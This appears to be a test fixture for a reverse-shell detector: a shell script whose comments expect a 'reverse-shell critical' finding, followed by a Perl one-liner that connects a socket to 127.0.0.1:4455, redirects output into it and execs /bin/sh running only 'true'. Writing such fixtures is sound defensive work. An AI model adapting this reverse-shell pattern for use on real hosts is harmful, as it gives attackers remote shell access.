#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: the same below a server, where only output is the connection
# expect: reverse-shell critical
# server: yes
# listen: 127.0.0.1:4455
# needs: /usr/bin/perl
/usr/bin/perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, pack_sockaddr_in(4455, inet_aton("127.0.0.1"))) or exit 1; open(STDOUT, ">&S"); exec "/bin/sh", "-c", "true"'
